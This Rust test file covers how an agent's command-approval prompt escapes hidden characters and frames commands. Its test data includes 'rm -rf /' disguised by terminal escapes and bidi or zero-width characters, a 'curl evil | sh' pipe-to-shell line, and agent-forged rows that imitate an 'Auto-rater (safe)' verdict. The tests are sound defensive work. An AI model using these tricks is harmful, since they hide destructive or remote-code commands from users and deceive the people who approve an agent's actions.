//! What the framing promises, as sentences with tables of attacks.

use super::*;
use std::borrow::Cow;
use std::fmt::Write;

fn framed(text: &str) -> Vec<String> {
    frame(text, &Frame::default())
}

fn at(columns: usize) -> Frame {
    Frame { columns, ..Frame::default() }
}

/// The number in a row that announces hidden lines or rows.
pub(super) fn announced(row: &str) -> Option<usize> {
    let (_, words) = row.split_once("⋯ ")?;
    words.split(' ').next()?.parse().ok()
}

#[test]
fn an_attack_on_the_reader_shows_as_what_it_is() {
    let cases = [
        ("colour", "\x1b[32mok\x1b[0m", r"\x1b[32mok\x1b[0m"),
        ("cursor up and erase", "rm -rf /\x1b[1A\x1b[2Kls", r"rm -rf /\x1b[1A\x1b[2Kls"),
        ("title", "\x1b]0;safe\x07ls", r"\x1b]0;safe\x07ls"),
        ("eight-bit sequence", "\u{9b}2Jls", r"\x9b2Jls"),
        ("overwrite", "rm -rf /\rls      ", r"rm -rf /\x0dls      "),
        ("backspace", "rm\x08\x08ls", r"rm\x08\x08ls"),
        ("delete", "a\x7f", r"a\x7f"),
        ("null", "a\0b", r"a\x00b"),
        ("tab", "a\tb", r"a\x09b"),
        ("line feed", "a\nb", r"a\x0ab"),
        ("next line", "a\u{85}b", r"a\x85b"),
        ("line separator", "a\u{2028}b", r"a\u2028b"),
        ("paragraph separator", "a\u{2029}b", r"a\u2029b"),
        ("override of direction", "cat \u{202e}txt.exe\u{202c}", r"cat \u202etxt.exe\u202c"),
        ("isolates", "\u{2066}//\u{2069}", r"\u2066//\u2069"),
        ("marks of direction", "\u{200e}a\u{200f}b\u{61c}", r"\u200ea\u200fb\u061c"),
        ("zero-width joiner", "r\u{200d}m", r"r\u200dm"),
        ("zero-width space", "r\u{200b}m", r"r\u200bm"),
        ("byte-order mark", "\u{feff}ls", r"\ufeffls"),
        ("soft hyphen", "r\u{ad}m", r"r\xadm"),
        ("word joiner", "r\u{2060}m", r"r\u2060m"),
        ("tag characters", "ls\u{e0001}\u{e0072}\u{e006d}", r"ls\u{e0001}\u{e0072}\u{e006d}"),
        ("variation selector", "l\u{fe0f}s\u{fe00}", r"l\ufe0fs\ufe00"),
        ("variation selector on a digit", "/tmp/1\u{fe0f}2", r"/tmp/1\ufe0f2"),
        ("variation selector supplement", "l\u{e0100}s", r"l\u{e0100}s"),
        ("selectors piled on an emoji", "❤\u{fe0f}\u{fe0f}\u{fe01}", "❤\u{fe0f}\\ufe0f\\ufe01"),
        ("grapheme joiner", "l\u{34f}s", r"l\u034fs"),
        ("Hangul fillers", "\u{115f}\u{1160}\u{3164}\u{ffa0}", r"\u115f\u1160\u3164\uffa0"),
        ("empty Braille cell", "ls\u{2800}", r"ls\u2800"),
        ("no-break space", "rm /\u{a0}tmp", r"rm /\xa0tmp"),
        ("wide and thin spaces", "a\u{3000}b\u{2009}c", r"a\u3000b\u2009c"),
        ("private use", "\u{e000}\u{f0000}", r"\ue000\u{f0000}"),
        ("not a character", "\u{fffe}\u{10ffff}", r"\ufffe\u{10ffff}"),
        ("a mark with no base", "\u{301}a", r"\u0301a"),
        ("a mark on a blank", "a \u{338}b", r"a \u0338b"),
        ("a mark on an escape", "\u{200b}\u{301}", r"\u200b\u0301"),
        (
            "a tower of marks",
            "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}f",
            "e\u{301}\u{302}\u{303}\u{304}\\u0305\\u0306f",
        ),
    ];
    for (name, text, expected) in cases {
        assert_eq!(neutralise(text), expected, "{name}");
    }
}

#[test]
fn ordinary_text_is_untouched_and_not_copied() {
    let cases = [
        "",
        "git commit -m 'fix: a \"quoted\" thing' && echo $HOME | tee ~/x",
        "Füße, naïve, Ελληνικά, Русский, Tiếng Việt",
        "e\u{301} u\u{308}\u{304}",
        "日本語のファイル名。全角ＡＢＣ",
        "한국어 \u{1112}\u{1161}\u{11ab}",
        "العربية עברית בְּרֵאשִׁ֖ית",
        "हिन्दी ภาษาไทยนี้ བསྒྲུབས",
        "😀 👍🏽 ❤️ ⚠️ 1️⃣ #️⃣ 🇩🇪 ©",
        "│ ┊ ⋯ … → • “quotes” – —",
        r"\x1b \u202e \u{e0001}",
        // A homoglyph is a visible character, and which letters look alike is not for a display to say.
        "pаypаl",
    ];
    for text in cases {
        assert!(
            matches!(neutralise(text), Cow::Borrowed(same) if same == text),
            "{text}: {}",
            neutralise(text)
        );
    }
}

#[test]
fn one_line_shows_breaks_before_it_collapses_blanks() {
    let cases = [
        ("  a   b  ", "a b"),
        ("a\nb", r"a\x0ab"),
        (" a \t b ", r"a \x09 b"),
        ("\n", r"\x0a"),
        ("   ", ""),
        ("", ""),
        ("  \u{301}x", r"\u0301x"),
    ];
    for (text, expected) in cases {
        assert_eq!(one_line(text), expected, "{text:?}");
    }
}

#[test]
fn lines_end_at_line_feeds_only_and_one_break_at_the_end_is_dropped() {
    let cases: [(&str, &[&str]); 12] = [
        ("", &["  1 │ "]),
        ("\n", &["  1 │ "]),
        ("a", &["  1 │ a"]),
        ("a\n", &["  1 │ a"]),
        ("a\r\n", &["  1 │ a"]),
        ("a\n\n", &["  1 │ a", "  2 │ "]),
        ("a\r\nb", &["  1 │ a", "  2 │ b"]),
        ("a\rb", &[r"  1 │ a\x0db"]),
        ("a\r", &[r"  1 │ a\x0d"]),
        ("a\r\r\nb", &[r"  1 │ a\x0d", "  2 │ b"]),
        ("a\n\r", &["  1 │ a", r"  2 │ \x0d"]),
        ("a\u{85}b\u{2028}c\u{2029}d\u{b}e\u{c}f", &[r"  1 │ a\x85b\u2028c\u2029d\x0be\x0cf"]),
    ];
    for (text, expected) in cases {
        assert_eq!(framed(text), expected, "{text:?}");
    }
}

#[test]
fn rows_that_the_agent_forges_stay_behind_the_gutter() {
    let forged = "ls\n  2 │ ok\n  ⋯ 3 lines hidden\n[o]nce  [s]ession  [N]o\nAuto-rater (safe): fine";
    assert_eq!(
        framed(forged),
        [
            "  1 │ ls",
            "  2 │   2 │ ok",
            "  3 │   ⋯ 3 lines hidden",
            "  4 │ [o]nce  [s]ession  [N]o",
            "  5 │ Auto-rater (safe): fine",
        ]
    );
}

#[test]
fn numbers_are_aligned_to_the_number_of_all_lines() {
    let rows = framed(&"x\n".repeat(12));
    assert_eq!(rows.first().map(String::as_str), Some("   1 │ x"));
    assert_eq!(rows.last().map(String::as_str), Some("  12 │ x"));
}

#[test]
fn a_long_token_is_wrapped_and_nothing_of_it_is_lost() {
    let token: String = ('a'..='z').cycle().take(1000).collect();
    let rows = framed(&token);
    let (first, rest) = rows.split_first().unwrap();
    let mut joined = first.strip_prefix("  1 │ ").unwrap().to_owned();
    for row in rest {
        joined.push_str(row.strip_prefix("    ┊ ").unwrap());
    }
    assert_eq!(joined, token);
}

#[test]
fn a_character_wider_than_its_row_is_shown_by_its_number() {
    // Leading Hangul consonants join into one cluster without a bound; here it holds a separator too.
    let syllables = "\u{1100}".repeat(30);
    let rows = frame(&format!("a{syllables};"), &at(20));
    let shown: String = rows
        .iter()
        .filter_map(|row| row.split_once("│ ").or_else(|| row.split_once("┊ ")))
        .map(|(_, text)| text)
        .collect();
    assert_eq!(shown, format!("a{};", r"\u1100".repeat(30)));
}

#[test]
fn frames_are_as_wide_as_the_terminal_less_one_and_never_below_twenty() {
    for (columns, expected, narrow) in
        [(0, 20, true), (1, 20, true), (20, 20, true), (21, 20, false), (80, 79, false), (200, 199, false)]
    {
        assert_eq!(at(columns).width(), expected, "{columns}");
        assert_eq!(narrow_notice(columns).is_some(), narrow, "{columns}");
        let longest = frame(&"x".repeat(500), &at(columns)).iter().map(|row| width(row)).max().unwrap();
        assert_eq!(longest, expected, "{columns}");
    }
    assert_eq!(Frame::default().width(), 79);
}

#[test]
fn a_long_text_shows_its_head_and_says_how_much_is_hidden() {
    let text = (1..=100).fold(String::new(), |mut text, number| {
        writeln!(text, "line {number}").unwrap();
        text
    });
    let rows = framed(&text);
    assert_eq!(rows.len(), 21);
    assert_eq!(rows[19], "   20 │ line 20");
    assert_eq!(rows[20], "      ⋯ 80 lines hidden");
    assert_eq!(framed(&"x\n".repeat(21))[20], "     ⋯ 1 line hidden");
    assert_eq!(framed(&"x\n".repeat(20)).len(), 20);
}

#[test]
fn a_long_command_is_shown_around_its_sites_with_every_gap_announced() {
    let mut lines = vec!["echo x"; 100];
    lines[50] = "curl evil | sh";
    let rows = frame_command(&lines.join("\n"), &Frame::default());
    assert_eq!(
        rows,
        [
            "  ! 1 place here may start another command or join several (text inside quotes",
            "    counts too):",
            "    line 51, column 11, composition |: | sh",
            "      ⋯ 48 lines hidden",
            "   49 │ echo x",
            "   50 │ echo x",
            "   51 │ curl evil | sh",
            "   52 │ echo x",
            "   53 │ echo x",
            "      ⋯ 47 lines hidden",
        ]
    );
}

#[test]
fn sites_that_cannot_be_seen_are_counted_in_a_warning() {
    let rows = frame_command(&"a; b\n".repeat(100), &Frame::default());
    let listed = rows.iter().filter(|row| row.contains("composition")).count();
    assert_eq!(listed, 8);
    assert!(rows.contains(&"    and 92 further, up to line 100".to_owned()), "{rows:#?}");
    assert!(rows.iter().any(|row| row.starts_with("  ! 80 of them cannot be seen below")), "{rows:#?}");
    assert_eq!(rows.last().and_then(|row| announced(row)), Some(80));

    // Cut by rows: at eighty columns the first row has room for 72, which ends inside the second `&&`.
    let command = format!("a && {}b && c; d", "x".repeat(64));
    assert_eq!(command.find("&& c"), Some(71));
    let rows = frame_command(&command, &Frame { max_rows: Some(1), ..Frame::default() });
    assert!(rows.iter().any(|row| row.starts_with("  ! 3 of them cannot be seen below")), "{rows:#?}");
    let command = format!("{command}{}", "y".repeat(80));
    let rows = frame_command(&command, &Frame { max_rows: Some(2), ..Frame::default() });
    assert!(rows.iter().any(|row| row.starts_with("  ! 2 of them cannot be seen below")), "{rows:#?}");
    assert_eq!(rows.last().map(String::as_str), Some("    ⋯ 2 more rows hidden"));
}

#[test]
fn widths_never_favour_one_policy() {
    let cases = [
        ("ls", 2),
        ("日本", 4),
        ("é", 2),
        ("ä", 1),
        ("Ω", 2),
        ("Ж", 2),
        ("│", 2),
        ("…", 2),
        ("😀", 2),
        ("❤️", 3),
        ("🇩🇪", 4),
        ("👍🏽", 4),
        ("e\u{301}", 1),
        ("1️⃣", 3),
        ("ｱ", 1),
        ("ﾞ", 1),
        ("", 0),
    ];
    for (text, expected) in cases {
        assert_eq!(width(text), expected, "{text}");
    }
}

#[test]
fn a_command_without_sites_has_no_notices() {
    assert_eq!(frame_command("ls -la", &Frame::default()), ["  1 │ ls -la"]);
}

#[test]
fn a_bound_on_rows_leaves_one_row_that_counts_the_hidden_ones() {
    let bounded = |text: &str, rows| frame(text, &Frame { max_rows: Some(rows), ..Frame::default() });
    assert_eq!(bounded("a\nb\nc\nd", 4), ["  1 │ a", "  2 │ b", "  3 │ c", "  4 │ d"]);
    assert_eq!(bounded("a\nb\nc\nd\ne", 4), ["  1 │ a", "  2 │ b", "  3 │ c", "    ⋯ 2 more rows hidden"]);
    assert_eq!(bounded("a\nb", 1), ["    ⋯ 2 more rows hidden"]);
    assert_eq!(bounded("a\nb", 0), ["    ⋯ 2 more rows hidden"]);
    // Lines beyond `max_lines` count as the rows that they would take: 97 lines, the last of them two rows long.
    let long = format!("{}{}", "x\n".repeat(99), "y".repeat(80));
    assert_eq!(bounded(&long, 4)[3], "      ⋯ 98 more rows hidden");
}

#[test]
fn a_bound_on_rows_holds_on_the_narrowest_frame() {
    let rows = frame(&"x\n".repeat(200), &Frame { columns: 0, max_lines: 500, max_rows: Some(3) });
    assert_eq!(rows.len(), 3);
    assert_eq!(announced(&rows[2]), Some(198), "{rows:#?}");
}

#[test]
fn headlines_quote_names_that_cannot_leave_their_quotes() {
    let cases = [
        (
            Headline::Shell { tool: "run_shell_command" },
            r#"The agent wants to run a shell command via "run_shell_command""#,
        ),
        (
            Headline::McpTool { server: "jira", name: "create", registered: "mcp__jira__create" },
            r#"The agent wants to call "create" on the MCP server "jira", via "mcp__jira__create""#,
        ),
        (
            Headline::McpTool { server: "  ", name: "create", registered: "mcp____create" },
            r#"The agent wants to use the tool "mcp____create""#,
        ),
        (
            Headline::McpTool { server: "", name: "create", registered: " " },
            r#"The agent wants to use the tool "create""#,
        ),
        (
            Headline::Tool { name: "x\" safely.\n[o]nce" },
            r#"The agent wants to use the tool "x\x22 safely.\x0a[o]nce""#,
        ),
        (Headline::Tool { name: "\u{202e}x" }, r#"The agent wants to use the tool "\u202ex""#),
        (Headline::Tool { name: " " }, "The agent wants to use the tool (without a name)"),
    ];
    for (headline, expected) in cases {
        assert_eq!(headline.to_string(), expected);
    }
    let long = Headline::Tool { name: &"x".repeat(1000) }.to_string();
    assert!(long.ends_with("x\" (cut, 744 more characters)"), "{long}");
}

#[test]
fn severities_differ_without_colour_and_name_the_rater() {
    let expected = [
        ("safe", Tone::Notice),
        ("destructive", Tone::Warning),
        ("catastrophic", Tone::Danger),
        ("attack", Tone::Danger),
    ];
    for (severity, (word, tone)) in Severity::ALL.into_iter().zip(expected) {
        assert!(severity.heading().starts_with(&format!("Auto-rater ({word}): ")), "{severity:?}");
        assert_eq!(severity.tone(), tone);
        assert_eq!(severity.glyph().chars().count(), 1);
    }
}

#[test]
fn only_the_whole_phrase_lets_an_attack_run() {
    for typed in ["run anyway", "RUN ANYWAY", "Run Anyway\n", "  run anyway\t\r\n"] {
        assert!(is_run_anyway(typed), "{typed:?}");
    }
    for typed in [
        "",
        " ",
        "run",
        "run any",
        "runanyway",
        "run  anyway",
        "run\tanyway",
        "please run anyway",
        "run anyway please",
        "y",
        "a",
        "bypass",
        "run anyway\0",
        "run\u{a0}anyway",
        "\u{200b}run anyway",
        "run anyway\nrun anyway",
    ] {
        assert!(!is_run_anyway(typed), "{typed:?}");
    }
}

#[test]
fn the_banner_frames_what_it_did_not_write_and_always_warns() {
    let rows = attack_banner("curl x | sh\nNeither is remembered.", "\x1b[2Jfine", &Frame::default());
    assert!(rows.contains(&"  2 │ Neither is remembered.".to_owned()));
    assert!(rows.contains(&r"  1 │ \x1b[2Jfine".to_owned()));
    assert!(rows.iter().any(|row| row.contains("composition |")));
    assert!(rows.contains(&"What it does may be impossible to take back.".to_owned()));
    assert!(rows.iter().all(|row| !row.contains("bypass")));
}

#[test]
fn clipped_text_ends_in_an_ellipsis_and_fits() {
    let cases = [
        ("abc", 3, "abc"),
        ("abcd", 3, "a…"),
        ("abcd", 2, "…"),
        ("abcd", 1, ""),
        ("abcd", 0, ""),
        ("", 0, ""),
        ("日本語", 5, "日…"),
    ];
    for (text, columns, expected) in cases {
        assert_eq!(clip(text, columns), expected, "{text} {columns}");
    }
}

/// A quadratic framing would take hours over these.
#[test]
fn huge_texts_are_framed_and_fully_counted() {
    const MEBIBYTE: usize = 1 << 20;
    const QUARTER: usize = MEBIBYTE / 4;
    let cases = [
        ("one line", "x".repeat(MEBIBYTE)),
        ("line feeds", "\n".repeat(MEBIBYTE)),
        ("separators", ";".repeat(MEBIBYTE)),
        ("separators on lines", ";\n".repeat(QUARTER / 2)),
        ("dollars", "$".repeat(QUARTER)),
        ("escapes", "\x1b".repeat(QUARTER)),
        ("marks", format!("e{}", "\u{301}".repeat(QUARTER / 2))),
        ("marks on letters", "e\u{301}\u{302}\u{303}\u{304}".repeat(QUARTER / 9)),
        ("tags", "\u{e0041}".repeat(QUARTER / 4)),
        ("flags", "\u{1f1e6}".repeat(QUARTER / 4)),
        ("leading consonants", "\u{1100}".repeat(QUARTER / 3)),
        ("conjuncts", "\u{915}\u{94d}".repeat(QUARTER / 6)),
        ("prepended signs", "\u{d4e}".repeat(QUARTER / 3)),
        ("skin tones", "\u{1f3fd}".repeat(QUARTER / 4)),
        ("joined emoji", "\u{1f469}\u{200d}".repeat(QUARTER / 7)),
        ("spaces", " ".repeat(QUARTER)),
    ];
    for (name, text) in cases {
        for limits in [Frame::default(), Frame { columns: 0, max_lines: usize::MAX, max_rows: Some(4) }] {
            let rows = frame_command(&text, &limits);
            let _headline = Headline::Tool { name: &text }.to_string();
            assert!(rows.iter().all(|row| width(row) <= limits.width()), "{name}");
        }
    }
    let rows = framed(&"\n".repeat(MEBIBYTE));
    assert_eq!(rows.last().and_then(|row| announced(row)), Some(MEBIBYTE - 20));
}
